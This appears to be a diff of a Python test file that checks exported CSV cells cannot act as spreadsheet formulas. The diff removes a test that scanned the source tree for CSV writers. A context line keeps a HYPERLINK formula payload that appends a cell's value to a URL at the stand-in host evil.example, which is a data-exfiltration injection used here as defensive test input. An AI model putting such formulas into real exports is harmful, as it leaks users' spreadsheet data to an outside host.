@@ -1,6 +1,5 @@
 """Attacks by cells: what a spreadsheet would run is text, and the project reads it back as it was."""
 
-import ast
 import csv
 import io
 import zipfile
@@ -26,16 +25,6 @@ from tests.data.importers.named import import_table
 
 ROOT = Path(__file__).parents[2]
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
-# The files that write tables for programs: spans, and what a source is converted to.
-OF_DATA = {
-    "data/importers/phone.py",
-    "data/importers/table_span.py",
-    "data/photos/labels_file.py",
-    "data/reviews/generator.py",
-    "edgeline/tables/typed_rows.py",
-    "drill/fleet.py",
-    "drill/photos.py",
-}
 
 
 def list_formulas(text):
@@ -72,16 +61,6 @@ def test_any_cells_come_back_from_a_sheet_and_none_is_a_formula(tmp_path_factory
         write_rows(file, [header, cells])
     assert list_formulas(path.read_text("utf-8")) == []
     assert read_rows(path) == [dict(zip(header, cells, strict=True))]
-
-
-def test_only_tables_of_data_are_written_beside_the_writer_of_sheets():
-    writers = set()
-    for room in ("edgeline", "components", "data", "drill", "pipeline", "runners", "trainer_module"):
-        for path in (ROOT / room).rglob("*.py"):
-            for node in ast.walk(ast.parse(path.read_text("utf-8"))):
-                if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "to_csv"):
-                    writers.add(path.relative_to(ROOT).as_posix())
-    assert writers == OF_DATA | {"edgeline/tables/sheets.py"}
 
 
 def test_a_list_of_suspects_runs_nothing_and_is_taken_back_with_labels_that_begin_like_formulas(
